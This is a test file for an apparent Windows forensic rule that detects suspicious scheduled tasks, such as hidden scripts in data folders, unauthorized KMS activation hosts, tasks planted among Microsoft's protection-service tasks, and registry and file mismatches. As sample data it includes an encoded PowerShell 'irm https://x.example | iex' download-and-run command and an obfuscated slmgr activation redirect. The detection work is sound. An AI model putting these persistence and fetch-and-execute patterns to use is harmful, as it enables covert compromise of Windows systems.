// Scheduled tasks: what they run in either store, what only one store says, and the tasks of an honest Windows.
import { test } from 'uvu';
import { scheduledTask } from '../../../rules/activation/scheduled-task.ts';
import { actionsBlob, taskFile, taskXml, triggersBlob } from '../../../scripts/dev/fixtures/tasks.ts';
import type { FakeKeys, FakeSpec } from '../../helpers/fake-image.ts';
import { windowsRuleTester } from '../../helpers/on-windows.ts';

const CACHE = 'Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache';
const SPP = '\\Microsoft\\Windows\\SoftwareProtectionPlatform';
const policy = { kmsHosts: ['kms.corp.example'] };

interface Given {
  readonly path?: string;
  readonly action?: string;
  /** What the registry holds, where that is something else. */
  readonly stored?: string;
  readonly principal?: string;
  readonly hidden?: boolean;
  readonly only?: 'file' | 'registry';
  readonly guarded?: boolean;
  readonly named?: boolean;
  /** Shows a message in place of starting the program. */
  readonly message?: boolean;
}

function taskOf({ path = '\\Vendor\\Task', action = 'a.exe', stored = action, principal = 'S-1-5-18', ...more }: Given): {
  file: object;
  keys: FakeKeys;
} {
  const { hidden = false, only, guarded = true, named = true, message = false } = more;
  const id = `{${Buffer.from(path)
    .toString('hex')
    .slice(-32)
    .padStart(32, '0')
    .replace(/(.{8})(.{4})(.{4})(.{4})(.{12})/, '$1-$2-$3-$4-$5')}}`;
  const task = (line: string) => ({ path, trigger: 'boot', principal, action: line });
  const xml = taskXml(task(action)).replace('<Settings>', `<Settings><Hidden>${hidden}</Hidden>`);
  const shown = xml.replace(/<Exec>.*<\/Exec>/s, '<ShowMessage><Title>t</Title><Body>b</Body></ShowMessage>');
  const content = hidden || message ? Buffer.from(`\ufeff${message ? shown : xml}`, 'utf16le') : taskFile(task(action));
  const file = only === 'registry' ? {} : { [`/Windows/System32/Tasks${path.replaceAll('\\', '/')}`]: content };
  const tree: FakeKeys = named ? { [`${CACHE}\\Tree${path}`]: { Id: id, ...(guarded ? { SD: new Uint8Array(20) } : {}) } } : {};
  const data: FakeKeys = {
    [`${CACHE}\\Tasks\\${id}`]: {
      Path: path,
      Actions: actionsBlob(task(stored)),
      ...(principal === 'S-1-5-18' ? { Triggers: triggersBlob(task(stored)) } : {}),
    },
  };
  return { file, keys: only === 'file' ? {} : { ...tree, ...data } };
}

/** Two honest tasks beside the given ones, so that an oddity is one. */
function image(...given: readonly Given[]): FakeSpec {
  const made = [{ path: '\\Honest\\One' }, { path: '\\Honest\\Two' }, ...given].map(taskOf);
  return {
    files: Object.assign({}, ...made.map(({ file }) => file)),
    SOFTWARE: Object.assign({}, ...made.map(({ keys }) => keys)),
  };
}
const file = (path = '/Vendor/Task') => ({ file: `/Windows/System32/Tasks${path}` });
const tree = (path = '\\Vendor\\Task') => ({ hive: 'SOFTWARE', key: `${CACHE}\\Tree${path}` });

const LONE = ['\\L1', '\\L2', '\\L3', '\\L4'];

windowsRuleTester(scheduledTask, {
  good: [
    { name: 'a program of a vendor', image: image({ action: '"C:\\Program Files\\Vendor\\updater.exe" /silent' }) },
    {
      name: "Microsoft's own tasks of the protection service, of Windows 7 and later",
      image: image(
        { path: `${SPP}\\SvcRestartTask`, action: '%systemroot%\\system32\\sc.exe start sppsvc' },
        { path: `${SPP}\\SvcRestartTaskNetwork`, action: '{B1AEBB5D-EAD9-4476-B375-9C3ED9F32AFC}' },
        { path: `${SPP}\\SvcRestartTaskLogon`, action: '{B1AEBB5D-EAD9-4476-B375-9C3ED9F32AFC}' },
      ),
    },
    { name: 'activation at a listed host', image: image({ action: 'cscript slmgr.vbs /skms kms.corp.example' }), policy },
    {
      name: 'a hidden task of a user in ProgramData',
      image: image({ action: 'C:\\ProgramData\\V\\a.cmd', principal: 'S-1-5-32-545', hidden: true }),
    },
    { name: 'a visible script of SYSTEM in ProgramData', image: image({ action: 'C:\\ProgramData\\V\\a.cmd' }) },
    { name: 'a hidden program of SYSTEM in ProgramData', image: image({ action: 'C:\\ProgramData\\V\\a.exe', hidden: true }) },
    { name: 'the name of a protection task in another folder', image: image({ path: '\\Vendor\\SvcRestartTask', action: 'C:\\v.exe' }) },
    { name: 'names without descriptors before Windows 10', image: { ...image({ guarded: false }), info: { build: 9600 } } },
    { name: 'files alone, without what the registry holds', image: { files: image().files! } },
    {
      name: 'more tasks in one store than in both',
      image: image({ path: '\\F', only: 'file' }, { path: '\\G', only: 'file' }, { path: '\\R', only: 'registry' }),
    },
    {
      name: 'files whose names in the registry lead nowhere, more of them than of others',
      image: {
        files: image(...LONE.map((path) => ({ path }))).files!,
        SOFTWARE: { ...image().SOFTWARE, ...Object.fromEntries(LONE.map((path) => [`${CACHE}\\Tree${path}`, { Id: '{0}' }])) },
      },
    },
    {
      name: 'a name among those of the protection service that leads nowhere',
      image: { ...image(), SOFTWARE: { ...image().SOFTWARE, [`${CACHE}\\Tree${SPP}\\Gone`]: { Id: '{0}' } } },
    },
    {
      name: "Microsoft's own task with its program and an argument",
      image: image(
        { path: `${SPP}\\SvcRestartTask`, action: 'C:\\Windows\\System32\\SppExtComObj.exe -Embedding' },
        { path: `${SPP}\\SvcRestartTaskLogon`, action: 'C:\\Windows\\System32\\SppExtComObj.exe' },
      ),
    },
    {
      name: 'the task of the protection service of Office',
      image: image({ path: '\\OfficeSoftwareProtectionPlatform\\SvcRestartTask', action: '%windir%\\system32\\sc.exe start osppsvc' }),
    },
    { name: 'a hidden script of SYSTEM among the programs', image: image({ action: '"C:\\Program Files\\V\\a.cmd"', hidden: true }) },
    {
      name: 'a program of a user from the temporary folder',
      image: image({ action: 'C:\\Windows\\Temp\\a.exe', principal: 'S-1-5-32-545' }),
    },
    { name: 'a hive alone, without any file', image: { SOFTWARE: image().SOFTWARE! } },
    {
      name: 'a name that leads nowhere',
      image: { ...image(), SOFTWARE: { ...image().SOFTWARE, [`${CACHE}\\Tree\\Gone`]: { Id: '{0}' } } },
    },
    { name: 'the same action in other case and with quotes', image: image({ action: '"A.exe" -x', stored: 'a.exe -x' }) },
    {
      name: 'a class in the registry, which the file shows as something else that is no program',
      image: image({ message: true, stored: '{11111111-2222-3333-4444-555555555555}' }),
    },
  ],
  bad: [
    ...['cmd', 'bat', 'ps1', 'vbs', 'vbe', 'js', 'jse', 'wsf', 'hta'].map((ending) => ({
      name: `a hidden script from a folder for data: ${ending}`,
      image: image({ action: `%ProgramData%\\U\\u.${ending}`, hidden: true }),
      findings: [{ messageId: 'hiddenScript', at: file() }],
    })),
    ...['%AllUsersProfile%\\U\\u.cmd', 'C:\\ProgramData\\U\\u.cmd', 'C:\\Windows\\Temp\\u.cmd', 'C:\\Users\\Public\\u.cmd'].map(
      (action) => ({
        name: `a hidden script from a folder for data: ${action}`,
        image: image({ action, hidden: true }),
        findings: [{ messageId: 'hiddenScript', at: file() }],
      }),
    ),
    ...['S-1-5-18', 'SYSTEM', 'NT AUTHORITY\\SYSTEM', 'LocalSystem', 'Local System'].map((principal) => ({
      name: `a hidden script of the system by another name: ${principal}`,
      image: image({ action: '%ProgramData%\\U\\u.cmd', hidden: true, principal }),
      findings: [{ messageId: 'hiddenScript', at: file() }],
    })),
    {
      name: 'a name without a descriptor, beside more names that lead nowhere',
      image: {
        ...image({ path: '\\G', guarded: false }),
        SOFTWARE: {
          ...image({ path: '\\G', guarded: false }).SOFTWARE,
          ...Object.fromEntries(LONE.map((path) => [`${CACHE}\\Tree${path}`, { Id: '{0}' }])),
        },
      },
      findings: [{ messageId: 'unguarded', at: file('/G') }],
    },
    {
      name: 'activation at another host',
      image: image({ action: 'cmd.exe /c slm^gr.vbs /skms 203.0.113.5' }),
      policy,
      findings: [{ messageId: 'activates', at: file(), level: 'strong' }],
    },
    {
      name: 'activation in the registry, where the file shows something else',
      image: image({ action: 'good.exe', stored: 'cscript.exe slmgr.vbs /skms 127.0.0.2' }),
      findings: [
        { messageId: 'activates', at: file(), level: 'certain' },
        { messageId: 'disagree', at: file(), evidence: /slmgr/ },
      ],
    },
    {
      name: 'a fetched text, in coded form',
      image: image({ action: `powershell.exe -enc ${Buffer.from('irm https://x.example | iex', 'utf16le').toString('base64')}` }),
      findings: [{ messageId: 'fetches', at: file() }],
    },
    {
      name: 'one more task beside those of the protection service, and one of them that runs something else',
      image: image({ path: `${SPP}\\SvcTrigger`, action: 'a.exe' }, { path: `${SPP}\\SvcRestartTask`, action: 'C:\\Windows\\b.exe' }),
      findings: [
        { messageId: 'foreign', at: file('/Microsoft/Windows/SoftwareProtectionPlatform/SvcTrigger') },
        { messageId: 'changed', at: file('/Microsoft/Windows/SoftwareProtectionPlatform/SvcRestartTask') },
      ],
    },
    {
      name: 'one more task beside those of the protection service that starts a class, and one that shows a message',
      image: image(
        { path: `${SPP}\\SvcClass`, action: '{B1AEBB5D-EAD9-4476-B375-9C3ED9F32AFC}' },
        { path: `${SPP}\\SvcMessage`, action: 'a.exe', only: 'file', message: true },
      ),
      findings: [
        { messageId: 'foreign', at: file('/Microsoft/Windows/SoftwareProtectionPlatform/SvcClass'), evidence: /B1AEBB5D/i },
        { messageId: 'foreign', at: file('/Microsoft/Windows/SoftwareProtectionPlatform/SvcMessage'), evidence: /ShowMessage/ },
        { messageId: 'oneStore', at: file('/Microsoft/Windows/SoftwareProtectionPlatform/SvcMessage') },
      ],
    },
    {
      name: 'one more task beside that of the protection service of Office',
      image: image({ path: '\\OfficeSoftwareProtectionPlatform\\SvcTrigger', action: 'a.exe' }),
      findings: [{ messageId: 'foreign', at: file('/OfficeSoftwareProtectionPlatform/SvcTrigger') }],
    },
    {
      name: 'a hidden script from ProgramData, and a program from the temporary folder',
      image: image({ action: 'C:\\ProgramData\\U\\u.cmd', hidden: true }, { path: '\\Other', action: 'C:\\Windows\\Temp\\a.exe' }),
      findings: [
        { messageId: 'hiddenScript', at: file() },
        { messageId: 'fromData', at: file('/Other') },
      ],
    },
    {
      name: 'one store alone',
      image: image({ path: '\\F', only: 'file' }, { path: '\\R', only: 'registry' }),
      findings: [
        { messageId: 'oneStore', at: file('/F'), says: /its file/ },
        { messageId: 'oneStore', at: tree('\\R'), says: /the registry/ },
      ],
    },
    {
      name: 'a task without a name, and a name without a descriptor',
      image: image({ path: '\\U', named: false }, { path: '\\G', guarded: false }),
      findings: [
        { messageId: 'unnamed', at: file('/U') },
        { messageId: 'unguarded', at: file('/G') },
      ],
    },
    {
      name: 'actions that cannot be read',
      image: { SOFTWARE: { [`${CACHE}\\Tree\\T`]: { Id: '{1}' }, [`${CACHE}\\Tasks\\{1}`]: { Actions: Uint8Array.of(9, 9) } } },
      findings: [],
      unable: /version 2313 is not known/,
    },
  ],
});

test.run();
